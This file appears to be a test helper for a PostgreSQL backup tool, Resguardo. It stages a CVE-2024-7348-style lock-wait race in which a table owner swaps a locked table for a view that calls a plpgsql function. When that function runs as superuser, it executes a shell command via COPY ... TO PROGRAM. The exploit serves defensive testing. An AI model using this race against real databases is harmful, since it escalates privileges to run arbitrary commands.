"""The swap race (CVE-2024-7348's class), as a clinic's owner would run it against a read of Resguardo's.

The owner holds ACCESS EXCLUSIVE on a table it owns; as soon as a Resguardo session is seen in `pg_locks`
waiting for that table, it renames the table and creates a view of the same name (same columns) whose WHERE
calls its "spy" function, and commits. PostgreSQL looks the name up again after the wait. The spy records,
when it runs with a superuser's rights, who it ran as: `COPY ... TO PROGRAM` writes current_user and
session_user to a marker file (which works in the READ ONLY transactions of backups and previews, and survives
their rollback); as anyone else it does nothing (the owner's own rights are no harm).
"""

from __future__ import annotations

import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Generic, TypeVar

import psycopg
from psycopg import sql

from app.engine.connection import ConnectionTarget
from tests.support.attacks import as_role

T = TypeVar("T")
SPY = "rg_swap_spy"
_WAIT_SECONDS = 30.0


@dataclass
class Race(Generic[T]):
    """What happened: the action's result or its error, and whether the swap happened during its wait."""

    result: T | None
    error: BaseException | None
    swapped: bool
    superuser_runs: str  # the marker's content: who the spy ran as with a superuser's rights ("" = never)

    def value(self) -> T:
        """The result of an action that completed."""
        assert self.error is None and self.result is not None, self.error
        return self.result


def spy_body(marker: Path) -> str:
    return (
        "BEGIN IF pg_catalog.current_setting('is_superuser') = 'on' THEN"
        f" COPY (SELECT current_user, session_user) TO PROGRAM 'cat >> {marker}'; END IF; RETURN true; END"
    )


def race(admin: ConnectionTarget, schema: str, table: str, marker: Path, action: Callable[[], T]) -> Race[T]:
    """Run `action` (a Resguardo command) while the owner swaps `schema.table` for a spying view during the
    first wait of a Resguardo session on it; then put the table back, so that the database is as before but for
    what the action itself did."""
    owner = as_role(admin, "owner")
    swapped_name = f"{table}_swapped"
    with owner.connect() as holder, admin.connect(autocommit=True) as observer:
        holder.execute(
            sql.SQL("CREATE FUNCTION {}() RETURNS boolean LANGUAGE plpgsql AS {}").format(
                sql.Identifier(schema, SPY), sql.Literal(spy_body(marker))
            )
        )
        holder.commit()
        holder.execute(sql.SQL("LOCK TABLE {} IN ACCESS EXCLUSIVE MODE").format(sql.Identifier(schema, table)))
        oid = holder.execute("SELECT %s::regclass::oid", [sql.Identifier(schema, table).as_string(holder)]).fetchone()
        assert oid is not None
        outcome: Race[T] = Race(None, None, False, "")
        thread = threading.Thread(target=_run, args=(action, outcome), daemon=True)
        thread.start()
        swapped = _await_waiter(observer, int(oid[0]), holder.info.backend_pid, thread)
        if swapped:
            holder.execute(
                sql.SQL("ALTER TABLE {} RENAME TO {}").format(
                    sql.Identifier(schema, table), sql.Identifier(swapped_name)
                )
            )
            holder.execute(
                sql.SQL("CREATE VIEW {} AS SELECT * FROM {} WHERE {}()").format(
                    sql.Identifier(schema, table), sql.Identifier(schema, swapped_name), sql.Identifier(schema, SPY)
                )
            )
        holder.commit()
        thread.join(120)
        assert not thread.is_alive(), "the command did not finish within two minutes of the swap"
        _put_back(holder, int(oid[0]), table, swapped)
    outcome.swapped = swapped
    outcome.superuser_runs = marker.read_text() if marker.exists() else ""
    return outcome


def _run(action: Callable[[], T], outcome: Race[T]) -> None:
    try:
        outcome.result = action()
    except BaseException as exc:  # the test reads it
        outcome.error = exc


def _await_waiter(observer: psycopg.Connection, relation: int, holder_pid: int, thread: threading.Thread) -> bool:
    """True once a Resguardo session waits for `relation`; False when the action ended without ever waiting."""
    deadline = time.monotonic() + _WAIT_SECONDS
    while time.monotonic() < deadline and thread.is_alive():
        row = observer.execute(
            "SELECT count(*) FROM pg_locks l JOIN pg_stat_activity a ON a.pid = l.pid"
            " WHERE l.locktype = 'relation' AND l.relation = %s AND NOT l.granted AND l.pid <> %s"
            " AND a.application_name = 'resguardo'",
            [relation, holder_pid],
        ).fetchone()
        if row and row[0]:
            return True
        time.sleep(0.01)
    return False


def _put_back(conn: psycopg.Connection, oid: int, table: str, swapped: bool) -> None:
    """The owner undoes its swap (the view, the spy), so a comparison with the state before shows only what
    Resguardo changed; found by the table's oid (a restore that went ahead moved the schema to its safety copy)."""
    row = conn.execute(
        "SELECT n.nspname, c.relname FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace WHERE c.oid = %s",
        [oid],
    ).fetchone()
    assert row is not None
    schema, name = row
    if swapped:
        conn.execute(sql.SQL("DROP VIEW {}").format(sql.Identifier(schema, table)))
        conn.execute(sql.SQL("ALTER TABLE {} RENAME TO {}").format(sql.Identifier(schema, name), sql.Identifier(table)))
    conn.execute(sql.SQL("DROP FUNCTION {}()").format(sql.Identifier(schema, SPY)))
    conn.commit()
